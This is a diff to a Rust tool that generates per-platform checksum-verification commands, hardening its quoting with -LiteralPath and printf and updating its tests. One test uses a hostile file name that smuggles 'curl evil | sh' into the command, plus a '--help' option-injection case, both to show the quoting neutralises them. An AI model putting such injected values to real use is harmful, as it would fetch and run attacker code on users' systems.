@@ -200,9 +200,9 @@ const BAD_FILE: &[(&str, &str)] = &[
     ),
     (
         "windows",
-        "Get-FileHash {file} -Algorithm SHA256\n\
-         (Get-Item {file}).Length\n\
-         Get-Content {file} -TotalCount 5\n\
+        "Get-FileHash -LiteralPath {file} -Algorithm SHA256\n\
+         (Get-Item -LiteralPath {file}).Length\n\
+         Get-Content -LiteralPath {file} -TotalCount 5\n\
          # {headers}\n\
          curl.exe -sIL -H 'Accept-Encoding: gzip' {url} | Select-String '^(HTTP|location|content-(type|length|encoding))'\n\
          # {again}\n\
@@ -212,11 +212,11 @@ const BAD_FILE: &[(&str, &str)] = &[
 
 /// After a new download: whether it is the official file.
 const CHECK: &[(&str, &str)] = &[
-    ("linux", "echo {check} | sha256sum -c -"),
-    ("darwin", "echo {check} | shasum -a 256 -c -"),
+    ("linux", "printf '%s\\n' {check} | sha256sum -c -"),
+    ("darwin", "printf '%s\\n' {check} | shasum -a 256 -c -"),
     (
         "windows",
-        "(Get-FileHash {file} -Algorithm SHA256).Hash -eq {sha256}",
+        "(Get-FileHash -LiteralPath {file} -Algorithm SHA256).Hash -eq {sha256}",
     ),
 ];
 
@@ -507,15 +507,19 @@ mod tests {
         let mut subject = subject();
         let (sha, file) = (subject.sha256.clone(), subject.file.clone());
         let linux = run(Finding::BadFile(Kind::Mismatch), "linux", &subject);
-        assert!(linux.ends_with(&format!("\necho '{sha}  {file}' | sha256sum -c -")));
+        assert!(linux.ends_with(&format!(
+            "\nprintf '%s\\n' '{sha}  {file}' | sha256sum -c -"
+        )));
         assert!(linux.starts_with(&format!("sha256sum '{file}'\n")));
         let mac = run(Finding::BadFile(Kind::Mismatch), "darwin", &subject);
         assert!(mac.starts_with(&format!("shasum -a 256 '{file}'")));
         assert!(mac.ends_with("| shasum -a 256 -c -"));
         let win = run(Finding::BadFile(Kind::Html), "windows", &subject);
-        assert!(win.starts_with(&format!("Get-FileHash '{file}' -Algorithm SHA256\n")));
+        assert!(win.starts_with(&format!(
+            "Get-FileHash -LiteralPath '{file}' -Algorithm SHA256\n"
+        )));
         assert!(win.ends_with(&format!(
-            "(Get-FileHash '{file}' -Algorithm SHA256).Hash -eq '{sha}'"
+            "(Get-FileHash -LiteralPath '{file}' -Algorithm SHA256).Hash -eq '{sha}'"
         )));
         subject.sha256.clear();
         let unknown = run(Finding::BadFile(Kind::Mismatch), "linux", &subject);
@@ -530,7 +534,8 @@ mod tests {
         let linux = run(Finding::BadFile(Kind::Html), "linux", &subject);
         assert!(linux.starts_with("sha256sum 'go'\\''; curl evil | sh; '\\''.tar.gz'\n"));
         let win = run(Finding::BadFile(Kind::Html), "windows", &subject);
-        assert!(win.starts_with("Get-FileHash 'go''; curl evil | sh; ''.tar.gz' -Algorithm"));
+        assert!(win
+            .starts_with("Get-FileHash -LiteralPath 'go''; curl evil | sh; ''.tar.gz' -Algorithm"));
         // Nor is a name read as an option.
         subject.file = "--help.tar.gz".into();
         let linux = run(Finding::BadFile(Kind::Mismatch), "linux", &subject);
